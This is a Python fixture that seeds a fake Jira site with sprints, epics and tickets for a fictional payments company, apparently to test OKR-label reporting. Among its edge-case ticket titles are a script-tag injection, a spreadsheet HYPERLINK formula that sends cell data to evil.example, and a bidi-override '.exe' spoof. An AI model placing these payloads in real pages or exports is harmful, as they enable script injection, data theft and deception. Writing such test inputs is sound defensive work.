"""The Jira of Acme Pay: three boards in the middle of a sprint, the epics behind the work, and what is wrong in it."""

from datetime import datetime

from align_sync.demo.fake_jira import JiraSite, SprintState
from align_sync.demo.story.tickets import SPRINT_LENGTH, Ticket, begin_sprint, written_at

PROJECTS = {
    "PAY": "Payments",
    "MOB": "Search and mobile",
    "PLAT": "Platform",
    "CS": "Customer success",
    "SUP": "Support",
    "GOAL": "Goals",
    "SEC": "Security, closed to most",
}
BOARDS = ((1, "Payments", "PAY"), (2, "Search and mobile", "MOB"), (3, "Platform", "PLAT"))
UNREADABLE = "SEC-7"

_PAST, _PAY, _PAY_NEXT = 123, 124, 125
_MOB_PAST, _MOB, _MOB_NEXT = 231, 232, 233
_PLAT_PAST, _PLAT, _PLAT_NEXT = 318, 319, 320
SPRINTS = (
    (_PAST, "Payments 23", 1, -1),
    (_PAY, "Payments 24", 1, 0),
    (_PAY_NEXT, "Payments 25", 1, 1),
    (_MOB_PAST, "Mobile 31", 2, -1),
    (_MOB, "Mobile 32", 2, 0),
    (_MOB_NEXT, "Mobile 33", 2, 1),
    (_PLAT_PAST, "Platform 18", 3, -1),
    (_PLAT, "Platform 19", 3, 0),
    (_PLAT_NEXT, "Platform 20", 3, 1),
)

_ANNA, _BEN, _CARLA = "Anna Conti", "Ben Okafor", "Carla Ruiz"
_DEV, _ELIF, _FINN = "Dev Patel", "Elif Kaya", "Finn Larsen"
_GIO, _HANA, _IVO = "Giovanni Serra", "Hana Sato", "Ivo Horvat"

_BIDI_TITLE = "Invoice preview shows \u202etxt.exe\u202c behind the amount in Arabic (فاتورة)"
_LONG_TITLE = (
    "As a merchant who takes payments on several phones at the same counter I want the search to remember what the"
    " colleague before me looked for, to offer it again when the same customer comes back within the hour, to forget it"
    " at the end of the day, and to tell me in plain words when it cannot do so because the phone has been offline"
)

EPICS = (
    Ticket("PAY-280", "Smart retries for declined cards", kind="Epic", status="In Progress", who=_ANNA),
    Ticket("PAY-301", "Refunds that simply arrive", kind="Epic", status="In Progress", who=_BEN),
    Ticket("PAY-317", "Chargebacks without e-mails", kind="Epic", status="In Progress", who=_BEN),
    Ticket("PAY-260", "Invoices that look good", kind="Epic", status="In Progress", who=_CARLA),
    # Mistyped on the epic: everything below it is invalid at once.
    Ticket("PAY-250", "One place for fees", kind="Epic", labels=("okr/KR-2.11",), status="In Progress", who=_CARLA),
    Ticket("MOB-50", "First payment on the phone", kind="Epic", labels=("okr/act7",), status="In Progress", who=_DEV),
    Ticket("MOB-61", "Design refresh", kind="Epic", status="In Progress", who=_ELIF),
    Ticket("PLAT-77", "Quiet nights", kind="Epic", status="In Progress", who=_GIO),
    Ticket("PLAT-90", "Everything on the new runtime", kind="Epic", status="In Progress", who=_HANA),
    Ticket("PLAT-95", "Checkout under 350 ms", kind="Epic", labels=("okr/KR-5.1",), status="In Progress", who=_IVO),
    Ticket("PLAT-5", "Speed for everybody", kind="Initiative", labels=("okr:KR-5.1",), status="In Progress"),
    Ticket("PLAT-96", "Cheaper database queries", kind="Epic", above="PLAT-5", status="In Progress", who=_IVO),
    Ticket("CS-12", "Customers who stay", kind="Epic", status="In Progress"),
    Ticket("SUP-40", "Answers at hand", kind="Epic", status="In Progress"),
    Ticket("GOAL-12", "Success plans for three of four customers", kind="Task", status="In Progress"),
    Ticket(UNREADABLE, "Findings of the last audit", kind="Epic", status="In Progress"),
)

PAYMENTS = (
    Ticket("PAY-401", "Retry a declined card after a minute, an hour and a day", sprints=(_PAY,), above="PAY-280",
           status="In Progress", points=5, who=_ANNA),
    Ticket("PAY-402", "Store the reason for a decline", kind="Sub-task", sprints=(_PAY,), above="PAY-401",
           status="Done", points=2, who=_ANNA),
    Ticket("PAY-403", "Back off when the bank says stop", kind="Sub-task", sprints=(_PAY,), above="PAY-401",
           points=1, who=_BEN),
    Ticket("PAY-404", "Refund in one step instead of three", sprints=(_PAST, _PAY), above="PAY-301",
           status="In Review", points=8, who=_BEN),
    # The label on the item wins over the epic above it.
    Ticket("PAY-405", "Second attempt lacks the customer's address", kind="Bug", sprints=(_PAY,), above="PAY-301",
           labels=("okr/KR-2.1",), status="In Progress", points=3, who=_CARLA),
    Ticket("PAY-406", "Tell merchants when a refund fails", sprints=(_PAY,), labels=("okr-refunds", "mail"),
           points=3, who=_BEN),
    Ticket("PAY-407", "Reconcile refunds with the bank every night", kind="Task", sprints=(_PAY,),
           labels=("okr:KR-2.3",), points=5),
    # A good label beside one that names a closed key result: the good one counts.
    Ticket("PAY-408", "Show which card will be tried next", sprints=(_PAY,), labels=("KR-2.1", "okr/KR-2.2"),
           points=2, who=_ANNA),
    Ticket("PAY-409", "One ledger entry for payment and refund", sprints=(_PAY,),
           labels=("okr/KR-2.1=0.7", "okr/KR-2.3=0.3"), status="In Progress", points=8, who=_CARLA),
    Ticket("PAY-410", "Upload evidence for a chargeback", sprints=(_PAY,), above="PAY-317", points=5, who=_BEN),
    Ticket("PAY-411", "Remove the form for refunds by hand", kind="Task", sprints=(_PAY,), labels=("okr/KR-2.2",),
           points=2, who=_CARLA),
    Ticket("PAY-412", "Move the ledger export to the batch API", kind="Task", sprints=(_PAST, _PAY),
           status="In Progress", points=8, who=_ANNA),
    Ticket("PAY-413", "New fonts for the invoice PDF", sprints=(_PAY,), above="PAY-260", points=5, who=_CARLA),
    Ticket("PAY-414", "Keep the amount when a payment is tried again", sprints=(_PAY,), labels=("okr/KR2.1",),
           points=3, who=_BEN),
    # No form of a label that counts, and none that the book names: nothing is guessed.
    Ticket("PAY-415", "Rename refund statuses in the API", kind="Task", sprints=(_PAY,), labels=("okr-refund",),
           points=2),
    Ticket("PAY-416", "<!channel> refunds are late <script>alert('late')</script>", kind="Bug", sprints=(_PAY,),
           points=1, who=_BEN),
    Ticket("PAY-417", '=HYPERLINK("https://evil.example/?"&A1,"Open")', kind="Task", sprints=(_PAY,), points=1),
    Ticket("PAY-418", "Rotate the keys of the card vault", kind="Task", sprints=(_PAY,), above=UNREADABLE,
           status="In Progress", points=3, who=_CARLA),
    Ticket("PAY-419", "Payment figures on the page of success plans", sprints=(_PAY,),
           links=(("contributes to", "GOAL-12"),), points=3, who=_ANNA),
    # In the sprints of two teams at once; a report counts it once.
    Ticket("PAY-420", "Checkout waits for the fraud check only once", sprints=(_PAY, _PLAT), labels=("kr-5.1",),
           status="In Progress", points=5, who=_IVO),
    Ticket("PAY-421", "Clean up the refund tables", kind="Task", sprints=(_PAY,), links=(("relates to", "PAY-404"),),
           points=3),
    Ticket("PAY-422", "Retry rules a merchant can change", sprints=(_PAST, _PAY), above="PAY-280", status="Done",
           points=5, who=_ANNA),
    Ticket("PAY-423", "Show fees per card brand", sprints=(_PAY,), above="PAY-250", points=3, who=_CARLA),
    Ticket("PAY-424", "Say when the money is back", sprints=(_PAY,), above="PAY-301", status="Done", points=2,
           who=_BEN),
    Ticket("PAY-425", "Ask for the address only once", sprints=(_PAY,), components=("Checkout",),
           status="In Progress", points=3, who=_CARLA),
    Ticket("PAY-426", "Fill it in from the last payment", kind="Sub-task", sprints=(_PAY,), above="PAY-425", points=1,
           who=_CARLA),
    Ticket("PAY-427", "Offer gift cards before the total", sprints=(_PAY,), components=("Checkout", "Promotions"),
           points=3, who=_ANNA),
    # Its key result was reached the day before yesterday: three working days to find another.
    Ticket("PAY-428", "Throw away the template for paper", kind="Task", sprints=(_PAY,), labels=("okr/KR-2.4",),
           points=2, who=_BEN),
    Ticket("PAY-429", "Receipts in dark mode", sprints=(_PAY,), points=2, new=True),
    Ticket("PAY-435", "CVE-2026-31337 in the image library", kind="Task", sprints=(_PAY,), labels=("security",),
           status="In Progress", points=2, who=_BEN),
    Ticket("PAY-430", "Learn the best hour to retry", sprints=(_PAY_NEXT,), above="PAY-280", points=8),
    Ticket("PAY-431", "Switch the invoice mail to the new sender", kind="Task", sprints=(_PAY_NEXT,), points=2),
    Ticket("PAY-432", "Refunds without the bank's fax", sprints=(_PAY_NEXT,), labels=("okr/KR-2.3",), points=5),
    Ticket("PAY-433", "Fees on the page of success plans", sprints=(_PAY_NEXT,),
           links=(("contributes to", "GOAL-12"),), points=3),
)  # fmt: skip

MOBILE = (
    Ticket("MOB-71", "Scan the bank card instead of typing it", sprints=(_MOB,), above="MOB-50", status="In Progress",
           points=8, who=_DEV),
    Ticket("MOB-72", "Ask for the camera with a reason", kind="Sub-task", sprints=(_MOB,), above="MOB-71",
           status="Done", points=1, who=_DEV),
    # A bug that names a key result is no exempt bug: what an item says itself goes before every rule.
    Ticket("MOB-73", "Sign-up loses the VAT number on rotation", kind="Bug", sprints=(_MOB,),
           labels=("activation", "android"), status="In Progress", points=2, who=_ELIF),
    Ticket("MOB-74", "Test payment without a contract", sprints=(_MOB,), labels=("OKR/ACT7",), points=5, who=_FINN),
    Ticket("MOB-75", "Checklist for the first day", sprints=(_MOB_PAST, _MOB), above="MOB-50", status="In Review",
           points=3, who=_FINN),
    Ticket("MOB-76", "New icons 🎨✨ for the tab bar 👩🏽‍💻", sprints=(_MOB,), above="MOB-61", status="In Progress",
           points=3, who=_ELIF),
    Ticket("MOB-77", _BIDI_TITLE, kind="Bug", sprints=(_MOB,), points=2),
    Ticket("MOB-78", "Greet new shops with three steps", sprints=(_MOB,), labels=("kr-act7",), points=3, who=_DEV),
    # The epic belongs to another department's project.
    Ticket("MOB-79", "Badge for goals reached", sprints=(_MOB,), above="CS-12", points=3, who=_FINN),
    Ticket("MOB-80", "Ask for feedback after the tenth payment", sprints=(_MOB,), labels=("voice-of-customer",),
           points=2, who=_ELIF),
    Ticket("MOB-81", _LONG_TITLE, sprints=(_MOB,), points=5),
    Ticket("MOB-82", "Search finds shops by nickname", sprints=(_MOB,), above="MOB-61", status="Done", points=5,
           who=_FINN),
    Ticket("MOB-83", "Explain why the camera is needed", sprints=(_MOB,), labels=("okr/act-7",), points=1, who=_DEV),
    # Its parent was finished in the sprint before and is in no open one.
    Ticket("MOB-84", "Measure the time to the first frame", kind="Sub-task", sprints=(_MOB,), above="MOB-85",
           status="In Progress", points=2, who=_DEV),
    Ticket("MOB-85", "Checkout in the app feels instant", sprints=(_MOB_PAST,), labels=("okr/KR-5.1",), status="Done",
           points=5, who=_DEV),
    Ticket("MOB-86", "Crash when the receipt printer is away", kind="Bug", sprints=(_MOB,), status="In Progress",
           points=3, who=_FINN),
    # What is below an exempt bug is exempt as well.
    Ticket("MOB-87", "Say so in plain words", kind="Sub-task", sprints=(_MOB,), above="MOB-86", points=1, who=_FINN),
    Ticket("MOB-90", "Widget with today's takings", sprints=(_MOB_NEXT,), points=5),
    Ticket("MOB-91", "First payment with a borrowed phone", sprints=(_MOB_NEXT,), labels=("activation",), points=5),
)  # fmt: skip

PLATFORM = (
    Ticket("PLAT-201", "Alert on a growing queue of refunds", kind="Task", sprints=(_PLAT,), labels=("reliability",),
           status="In Progress", points=3, who=_GIO),
    Ticket("PLAT-202", "Fail over without a page", sprints=(_PLAT,), above="PLAT-77", status="In Progress", points=8,
           who=_GIO),
    Ticket("PLAT-203", "Rehearse it on a Friday", kind="Sub-task", sprints=(_PLAT,), above="PLAT-202", points=2,
           who=_HANA),
    Ticket("PLAT-204", "Cache the price list", sprints=(_PLAT,), above="PLAT-95", status="In Review", points=5,
           who=_IVO),
    Ticket("PLAT-205", "Build images on the new runtime", kind="Task", sprints=(_PLAT,), above="PLAT-90",
           status="In Progress", points=5, who=_HANA),
    Ticket("PLAT-206", "Retire the old build agents", kind="Task", sprints=(_PLAT,), above="PLAT-90", points=3),
    Ticket("PLAT-207", "Stop the nightly restart", kind="Task", sprints=(_PLAT,), above="PLAT-90",
           labels=("KR-5.2",), points=2, who=_GIO),
    Ticket("PLAT-208", "Dashboards in the new theme", kind="Task", sprints=(_PLAT,), points=3, who=_HANA),
    Ticket("PLAT-209", "Queue for support with a clock", sprints=(_PLAT,), labels=("sla-first-reply",), points=3,
           who=_IVO),
    Ticket("PLAT-210", "Search index for macros", sprints=(_PLAT,), above="SUP-40", points=5, who=_IVO),
    # Three steps up: story, epic, initiative.
    Ticket("PLAT-211", "Index for the ten slowest queries", sprints=(_PLAT,), above="PLAT-96", status="In Progress",
           points=5, who=_IVO),
    Ticket("PLAT-212", "Nightly figures for success plans", sprints=(_PLAT,),
           links=(("relates to", "GOAL-12"), ("blocks", "PAY-419")), points=3, who=_GIO),
    Ticket("PLAT-213", "Trace every slow checkout", sprints=(_PLAT_PAST, _PLAT), labels=("okr/KR-5.1", "okr/KR-5.2"),
           status="In Progress", points=5, who=_IVO),
    Ticket("PLAT-214", "Budget for each query", kind="Task", sprints=(_PLAT,), labels=("okr/KR-5.3",), points=2),
    Ticket("PLAT-215", "Update the wiki of the platform", kind="Task", sprints=(_PLAT,), status="Done",
           who=_HANA),
    Ticket("PLAT-216", "Runbook for a full disk", kind="Task", sprints=(_PLAT_PAST, _PLAT), above="PLAT-77",
           status="Done", points=2, who=_GIO),
    Ticket("PLAT-217", "Postgres driver 43", kind="Task", sprints=(_PLAT,), labels=("dependencies",), points=1,
           who=_HANA),
    # A bug, but not of the team whose bugs are exempt.
    Ticket("PLAT-218", "Logs lose their last line", kind="Bug", sprints=(_PLAT,), status="In Progress", points=2,
           who=_GIO),
    Ticket("PLAT-219", "Warm up the cache before the sale", kind="Task", sprints=(_PLAT,), points=3, new=True),
    Ticket("PLAT-220", "Second region for the ledger", sprints=(_PLAT_NEXT,), above="PLAT-77", points=13),
    Ticket("PLAT-221", "Compress what checkout sends", sprints=(_PLAT_NEXT,), labels=("okr/KR-5.1",), points=5),
)  # fmt: skip

TICKETS = (*EPICS, *PAYMENTS, *MOBILE, *PLATFORM)


def fill_jira(site: JiraSite) -> None:
    """Put the story into an empty site, with dates relative to its clock."""
    now = site.now()
    for key, name in PROJECTS.items():
        site.add_project(key, name)
    for number, name, project in BOARDS:
        site.add_board(number, name, project_key=project)
    _add_sprints(site, begin_sprint(now))
    for place, ticket in enumerate(TICKETS):
        created_at, updated_at = written_at(now, place, is_new=ticket.new)
        site.add_issue(
            ticket.key,
            summary=ticket.title,
            issue_type=ticket.kind,
            status=ticket.status,
            labels=ticket.labels,
            components=ticket.components,
            sprint_ids=ticket.sprints,
            parent_key=ticket.above,
            links=ticket.links,
            points=ticket.points,
            assignee=ticket.who,
            created_at=created_at,
            updated_at=updated_at,
        )
    site.forbid(UNREADABLE)


def _add_sprints(site: JiraSite, began_at: datetime) -> None:
    for number, name, board, turn in SPRINTS:
        started_at = began_at + turn * SPRINT_LENGTH
        state = (SprintState.CLOSED, SprintState.ACTIVE, SprintState.FUTURE)[turn + 1]
        completed = started_at + SPRINT_LENGTH if state is SprintState.CLOSED else None
        site.add_sprint(
            number, name, state, board, start=started_at, end=started_at + SPRINT_LENGTH, completed=completed
        )
